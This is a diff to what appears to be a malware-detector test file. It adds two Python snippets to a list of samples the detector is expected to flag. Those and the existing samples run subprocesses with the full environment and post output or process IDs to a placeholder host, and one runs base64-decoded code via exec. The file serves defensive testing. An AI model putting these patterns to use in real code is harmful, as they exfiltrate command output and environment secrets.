@@ -215,6 +215,8 @@ def test_what_looks_like_malware_counts_in_a_function_that_waits_too(
         "import socket, requests\ndef f():\n    requests.post('https://a', json={'host': socket.gethostname()})",
         "import os, requests, subprocess\ndef f(c):\n    done = subprocess.run(c, env=dict(os.environ), capture_output=True)\n    requests.post('https://a', data=done.stdout)",
         "import os, requests, subprocess\nfrom subprocess import Popen\ndef start(c, extra):\n    env = os.environ.copy()\n    env.update(extra)\n    return Popen(c, env=env)\ndef f(c):\n    requests.post('https://a', json={'pid': start(c, {}).pid})",
+        "import asyncio, os, requests, subprocess\nasync def f(c):\n    done = await asyncio.to_thread(subprocess.run, c, env=os.environ.copy(), stdout=subprocess.PIPE)\n    requests.post('https://a', data=done.stdout)",
+        "import os, requests, subprocess\nclass OwnPopen(subprocess.Popen):\n    pass\ndef f(c):\n    p = OwnPopen(c, env=os.environ.copy())\n    requests.post('https://a', json={'pid': p.pid})",
         "import base64\nFRAMES = ''\ndef driver():\n    exec(base64.b64decode(FRAMES))",
     ],
 )  # fmt: skip
